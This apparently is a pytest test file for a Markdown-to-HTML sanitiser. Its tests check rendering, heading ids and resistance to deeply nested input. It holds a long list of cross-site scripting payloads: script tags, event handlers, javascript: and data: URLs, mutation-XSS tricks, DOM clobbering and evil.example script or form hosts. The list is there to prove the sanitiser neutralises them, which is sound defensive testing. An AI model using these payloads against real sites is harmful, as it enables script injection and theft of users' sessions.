"""The sanitised HTML of documents: what Markdown gives, and what no document may smuggle into a page."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mdserver import html as module
from mdserver.html import PREFIX, render
from mdserver.outline import PARSED, outline

steady = settings(derandomize=True, deadline=None, max_examples=120)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "Some *em*, **strong**, ~~gone~~ and `code`.",
            "<p>Some <em>em</em>, <strong>strong</strong>, <s>gone</s> and",
        ),
        ("\ufeff---\ntitle: x\n---\n# Head", f'<h1 id="{PREFIX}head">Head</h1>\n'),
        ("# A\n\n# A", f'<h1 id="{PREFIX}a">A</h1>\n<h1 id="{PREFIX}a-1">A</h1>\n'),
        ("[x](#a-b)", f'<p><a href="#{PREFIX}a-b" rel="noopener noreferrer nofollow">x</a></p>\n'),
        ("[x](other.md#y)", '<p><a href="other.md#y" rel="noopener noreferrer nofollow">x</a></p>\n'),
        ("[x](tel:+41441112233)", '<p><a href="tel:+41441112233" rel='),
        ("<ann@example.org>", '<p><a href="mailto:ann@example.org" rel='),
        ('![alt](pic.png "t")', '<p><img src="pic.png" alt="alt" title="t"></p>\n'),
        ("```c++\na < b\n```", '<pre><code class="language-c++">a &lt; b\n</code></pre>\n'),
        ("| a | b |\n|:-:|--:|\n| c | d |", '<td align="center">c</td>\n<td align="right">d</td>'),
        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>'),
        (
            "<details open><summary>S</summary>\n\n*text*\n\n</details>",
            "<summary>S</summary>\n<p><em>text</em></p>\n</det",
        ),
        ("H<sub>2</sub>O <kbd>Ctrl</kbd> <mark>hit</mark>", "<p>H<sub>2</sub>O <kbd>Ctrl</kbd> <mark>hit</mark></p>\n"),
        ("a <!-- comment --> b", "<p>a  b</p>\n"),
        ("<div align=center>\n\n# T\n\n</div>", f'<div>\n<h1 id="{PREFIX}t">T</h1>\n</div>'),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
        ("", ""),
    ],
)
def test_markdown(text: str, html: str) -> None:
    assert html in render(text)
    assert "title: x" not in render(text)


def test_task_lists() -> None:
    html = render("- [ ] open\n- [x] **done**\n- [X]\n- [y] no\n- [x](link)\n\n1. [ ] a")
    box = '<input type="checkbox" class="task-list-item-checkbox" disabled="">'
    assert html.startswith(f'<ul class="contains-task-list">\n<li class="task-list-item">{box} open</li>')
    assert html.count("<input") == 3
    assert html.count('checked=""') == 1
    assert "<li>[X]</li>" in html
    assert "<li>[y] no</li>" in html
    assert '<ol class="contains-task-list">' in html
    assert render("- [ ] a\n\n  b").count("<input") == 1
    assert render("[ ] no list") == "<p>[ ] no list</p>\n"


def test_footnotes() -> None:
    html = render("A note[^1] and again[^1].\n\n[^1]: The *note*.\n")
    assert f'<sup class="footnote-ref"><a href="#{PREFIX}fn1" id="{PREFIX}fnref1"' in html
    assert f'id="{PREFIX}fnref1:1"' in html
    assert f'<li id="{PREFIX}fn1" class="footnote-item">' in html
    assert f'<a href="#{PREFIX}fnref1" class="footnote-backref"' in html
    assert '<section class="footnotes">\n<ol class="footnotes-list">' in html


words = st.sampled_from(["alpha", "Béta γ", "*a* b", "`c`", "a & b", "[l](u)", "[r]", "x[^1]", "<b>raw</b>", "!?"])
block = st.one_of(
    words,
    st.builds("{} {}".format, st.sampled_from(["#", "##", "> #", "- #"]), words),
    st.builds("{}\n---".format, words),
    st.sampled_from(["[r]: /u", "[^1]: note\n\n    # inside", "```\n# no\n```", "<div>", "</div>", "|a|\n|-|\n|b|"]),
)


@steady
@given(st.lists(block, max_size=10).map("\n\n".join))
def test_ids_are_those_of_the_outline(text: str) -> None:
    written = re.findall(rf'<h[1-6] id="{PREFIX}([^"]*)"', render(text))
    # Footnotes stand at the end of the page, or nowhere when nobody refers to them.
    wanted = [heading.id for heading in outline(text)]
    if "[^1]:" in text:
        assert set(written) <= set(wanted)
    else:
        assert written == wanted


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)//",
    "<img/src=`x`/onerror=alert(1)>",
    '<img src="x" alt="`><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    '<img srcset="javascript:alert(1) 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input type=image src=x onerror=alert(1)><input autofocus onfocus=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x/1'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='#' target=_blank ping='https://evil.example' onclick=alert(1)>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![" onerror="alert(1)](x)',
    '[x](y "\\" onclick=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a:javascript:alert(1)>",
    '```"><script>alert(1)</script>\ncode\n```',
    '``` x" onload="alert(1)\ncode\n```',
    "# <img src=x onerror=alert(1)>",
    '# "><script>alert(1)</script>',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[^"><script>]\n\n[^"><script>]: <script>alert(1)</script>',
    "- [ ] <script>alert(1)</script>",
    "---\ntitle: <script>alert(1)</script>\n---\n<script>alert(1)</script>",
    "<h1 id=location>x</h1><a id=document name=cookie>x</a><img name=getElementById>",
    "<h2 id='user-content-x y' class='admin hidden'>x</h2>",
    "<form id=app><input id=attributes></form>",
    "<a is=x-evil slot=y contenteditable>x</a><x-evil>y</x-evil>",
]


class Strict(HTMLParser):
    """Fails on every element, attribute and address that must not reach a page."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in module._TAGS, tag
        for name, value in attrs:
            allowed = module._ATTRIBUTES["*"] | module._ATTRIBUTES.get(tag, frozenset())
            assert name in allowed | ({"rel"} if tag == "a" else set()), name
            if name in ("href", "src", "cite"):
                # As browsers do: control characters and spaces go before the scheme is read.
                address = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", address)
                assert scheme is None or scheme[1] in ("http", "https", "mailto", "tel"), address
            elif name == "id":
                assert (value or "").startswith(PREFIX)
            elif name == "class":
                assert all(
                    (tag, word) in module._CLASSES or word.startswith("language-") for word in (value or "").split()
                )
        if tag == "input":
            assert ("type", "checkbox") in attrs
            assert "disabled" in dict(attrs)
        if tag == "a" and "href" in dict(attrs):
            assert dict(attrs)["rel"] == "noopener noreferrer nofollow"

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def check(text: str) -> None:
    html = render(text)
    strict = Strict()
    strict.feed(html)
    strict.close()
    assert _again(html) == html  # what a browser would read is what the sanitiser wrote: no mutation


def _again(html: str) -> str:
    return module._cleaner()(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_are_harmless(payload: str) -> None:
    for text in (payload, f"text {payload} text", f"<div>\n{payload}\n</div>", f"> - {payload}", payload * 2):
        check(text)


@steady
@given(
    st.lists(
        st.sampled_from(
            [*PAYLOADS, "\n\n", "<", ">", '"', "'", "`", "</", "<!--", "-->", "&#", "</p>", "<table>", "\0"]
        )
    )
)
def test_mixed_payloads_are_harmless(parts: list[str]) -> None:
    check("".join(parts))


@steady
@given(st.text(st.sampled_from("<>/!-\"'=&;#[]()*_`~:|^abonsvg \n\t\0\ud800\ufeff"), max_size=80))
def test_random_text_is_harmless(text: str) -> None:
    check(text)


def test_ids_cannot_clobber() -> None:
    assert render("<h1 id=location>x</h1>") == f'<h1 id="{PREFIX}location">x</h1>'
    assert render(f"<h1 id={PREFIX}x>x</h1>") == f'<h1 id="{PREFIX}x">x</h1>'
    assert render("<p id=x name=y>x</p>") == "<p>x</p>"


def test_classes_of_others_go() -> None:
    assert render('<code class="language-py admin">x</code>') == '<p><code class="language-py">x</code></p>\n'
    assert render("<ul class='contains-task-list modal'></ul>") == '<ul class="contains-task-list"></ul>'


def test_unbalanced_html_is_balanced() -> None:
    assert render("<div><b>x\n\ny") == "<div><b>x\n<p>y</p>\n</b></div>"
    assert render("</div></p>x") == "x"
    assert render("<ul><li>a<li>b</ul>") == "<ul><li>a</li><li>b</li></ul>"
    assert render("<p>a<p>b") == "<p>a</p><p>b</p>"
    assert (
        render("<a title='1 < 2 > 1'>x</a>")
        == '<p><a title="1 &lt; 2 &gt; 1" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


DEEP = {
    "quotes": ">" * 10_000 + " x",
    "quote lines": "".join(">" * n + " x\n" for n in range(1, 500)),
    "lists": "- " * 10_000 + "x",
    "nested lists": "".join("  " * n + "- x\n" for n in range(300)),
    "emphasis": "*x " * 10_000 + "x* " * 10_000,
    "brackets": "[" * 30_000,
    "images": "![" * 10_000 + "](x)" * 10_000,
    "links": "[" * 10_000 + "x" + "](y)" * 10_000,
    "divs": "<div>\n" * 20_000,
    "spans": "x" + "<span>" * 20_000,
    "formats": "".join(f"<b title={n}>" for n in range(5_000)) + "<p>" * 10_000,
    "formats in blocks": "<p>" + "".join(f"<b title={n}>" for n in range(200)) + "<div>x</div>\n" * 10_000,
    "tables": "<table><tr><td>" * 5_000,
    "svg": "<svg>" * 10_000,
    "stray ends": "<div>" * 300 + "</p>" * 20_000,
    "table": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|a\n" * 1_000,
    "references": "[a]: /" + "u" * 10_000 + "\n\n" + "[a] " * 20_000,
    "footnotes": "[^a]: x\n\n" + "[^a]" * 10_000,
    "nested footnotes": "[^a]: " * 5_000 + "x",
    "lazy": ">" * 50 + "a\n" + "a\n" * 20_000,
    "comments": "a <!-- " * 10_000,
    "cdata": "a <![CDATA[" * 10_000,
    "quotes in tags": "<a b='" * 10_000,
    "tasks": "- [ ] a\n" * 2_000,
    "large": "word " * (PARSED // 5 + 1),
}


@pytest.mark.parametrize("name", DEEP)
def test_hostile_text_takes_bounded_time_and_room(name: str) -> None:
    started = time.perf_counter()
    html = render(DEEP[name])
    assert time.perf_counter() - started < 10  # the slowest takes about a second
    assert len(html) < 3_000_000
    assert html or name == "nested footnotes"  # which nobody refers to


def test_what_cannot_be_rendered_is_shown_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    text = "<b>&" + "x" * PARSED
    assert render(text) == "<pre>&lt;b&gt;&amp;" + "x" * PARSED + "</pre>\n"

    def fail(*_: object) -> str:
        raise RecursionError

    monkeypatch.setattr(module, "_balanced", fail)
    assert render("---\ntitle: x\n---\n# <a>") == "<pre># &lt;a&gt;</pre>\n"
